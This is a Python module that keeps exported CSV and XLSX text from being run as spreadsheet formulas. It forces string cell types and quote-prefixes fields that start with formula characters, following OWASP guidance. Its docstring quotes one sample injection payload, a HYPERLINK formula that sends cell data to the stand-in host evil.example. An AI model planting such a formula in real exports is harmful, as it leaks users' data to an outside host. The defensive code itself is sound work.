"""Text in the spreadsheets dossier writes stays text: no record can put a formula into an XLSX or CSV.

A title such as ``=HYPERLINK("http://evil.example/?x="&A1,"点此查看")`` passes ``dossier check`` — it is a
valid title — and Excel, WPS and LibreOffice would run it as a formula if a file handed it over as one. Every
writer of XLSX or CSV (the catalogue downloads, the readiness report, templates and registers to come) takes
its text cells from here:

- XLSX: a text value is a string cell (``t="inlineStr"``), never a formula (``<f>``) or an error code, and
  holds the exact text — openpyxl would otherwise turn any text starting with "=" into a formula and "#N/A"
  into an error (``text_cell``, ``text_cells``);
- CSV: there is no cell type, so a field starting with one of ``= + - @``, a tab or a carriage return is
  prefixed with a single quote, as OWASP's CSV-injection guidance says, and every field is quoted, so a
  separator inside a text (a comma, or the semicolon that Excel uses as separator in some locales) cannot
  start a new cell that begins with one of them (``csv_field``, ``csv_bytes``).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell
    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
    from openpyxl.worksheet.worksheet import Worksheet

# What a spreadsheet may read as the start of a formula when it opens a CSV file (OWASP, CSV Injection);
# NUL too, which ASVS 1.2.10 adds.
FORMULA_STARTS = frozenset("=+-@\t\r\0")
NEUTRALISER = "'"  # shown by spreadsheets as part of the text; the formula is not run


def csv_field(value: str) -> str:
    """``value`` as a CSV field that no spreadsheet evaluates: prefixed with ``'`` when it could start a
    formula, else unchanged."""
    return NEUTRALISER + value if value[:1] in FORMULA_STARTS else value


def csv_row(values: Iterable[str]) -> list[str]:
    """``csv_field`` of each value; the one loop both writers of many rows use (10,000 rows × 14 cells)."""
    return [NEUTRALISER + v if v[:1] in FORMULA_STARTS else v for v in values]


def csv_bytes(header: Sequence[str], rows: Iterable[Iterable[str]]) -> bytes:
    """A CSV file of text: every field neutralised and quoted; UTF-8 with a byte-order mark (so Excel opens
    Chinese correctly by double-click) and CRLF line ends."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    writer.writerow(csv_row(header))
    writer.writerows(csv_row(row) for row in rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def text_cell(sheet: Worksheet | WriteOnlyWorksheet, value: object) -> Cell:
    """An openpyxl cell of ``sheet`` holding ``value``; a text is a string cell whatever it starts with.
    Numbers, dates and None keep the type openpyxl gives them."""
    from openpyxl.cell import WriteOnlyCell  # noqa: PLC0415 — openpyxl loads only where a workbook is made

    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl has made "=…" a formula and "#N/A" an error: text it is
    return cell


def text_cells(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[object]) -> list[Cell]:
    """A row for ``sheet.append``: ``text_cell`` of each value."""
    return [text_cell(sheet, value) for value in values]
